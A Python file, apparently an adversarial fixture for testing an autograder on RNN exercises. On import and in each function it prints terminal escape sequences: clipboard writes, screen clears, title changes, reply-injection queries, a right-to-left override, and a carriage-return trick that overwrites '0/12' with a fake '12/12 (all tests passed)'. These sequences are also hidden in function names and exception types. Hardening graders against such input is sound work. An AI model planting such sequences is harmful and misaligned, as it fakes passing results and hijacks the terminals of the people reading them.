"""Attack: control sequences for whoever reads the grader's output in a terminal.

At import and in every call it prints (and every exception message carries) ANSI and
OSC sequences: set the window title (OSC 0), clear the screen, write the clipboard
(OSC 52, a harmless "echo" in base64), a C1 CSI (0x9b), the alternate screen, an OSC 8
hyperlink, a DCS query and queries that make a terminal type a reply into its input
(cursor position, window title), a right-to-left override, NUL, BEL, backspaces, and a
carriage return that overwrites "0/12" with "12/12 (all tests passed)". Each function's
__name__, __qualname__ and __doc__ hold them too, and (b) raises an exception whose
type name does. A function whose name looks like rnn_a_shapes but uses a Cyrillic "а"
answers (a) correctly; the grader must never call it. Every real answer is wrong: 0.
"""

import base64

import numpy as np

CLIPBOARD = base64.b64encode(b"echo AGMARK-terminal_escape clipboard").decode()
ESCAPES = (
    "\x1b]0;PWNED by terminal_escape\x07"
    "\x1b[2J\x1b[H"
    f"\x1b]52;c;{CLIPBOARD}\x07"
    "\x9b31mC1-red\x9b0m"
    "\x1b[?1049h\x1b[?1049l"
    "\x1b]8;;http://127.0.0.1/agmark\x07a link\x1b]8;;\x07"
    "\x1bP+q544e\x1b\\"
    "\x1b[6n\x1b[21t"
    "\u202egnp.tnemhcatta\u202c"
    "\x00\x07" + "\x08" * 8 +
    "Score: 0/12\rScore: 12/12 (all tests passed)\n"
)
print(ESCAPES)

Escaped = type("Escaped\x1b]0;PWNED\x07\x1b[2J", (Exception,), {})


def shout(where):
    print(f"{where}: {ESCAPES}")


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    shout("rnn_a_shapes")
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    shout("rnn_a_dloss_dx")
    raise Escaped(ESCAPES)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    shout("rnn_b_shapes")
    raise ValueError(ESCAPES)


def rnn_b_f2(z):
    shout("rnn_b_f2")
    return z


def rnn_b_next_input(p_t):
    shout("rnn_b_next_input")
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    shout("rnn_b_dloss_dx_depends_on")
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}


def rnn_а_shapes(s_dim=2, x_dim=2, p_dim=2):  # noqa: PLC2401  a Cyrillic "а": not the graded name
    return {"W_ss": (s_dim, s_dim), "W_sx": (s_dim, x_dim), "W_o": (p_dim, s_dim)}


for _function in (rnn_a_shapes, rnn_a_dloss_dx, rnn_b_shapes, rnn_b_f2, rnn_b_next_input, rnn_b_dloss_dx_depends_on):
    _function.__doc__ = ESCAPES
    _function.__qualname__ = _function.__name__ + "\x1b]0;PWNED\x07\r"
    _function.__name__ = _function.__name__ + "\x1b[2J\x9b31m"
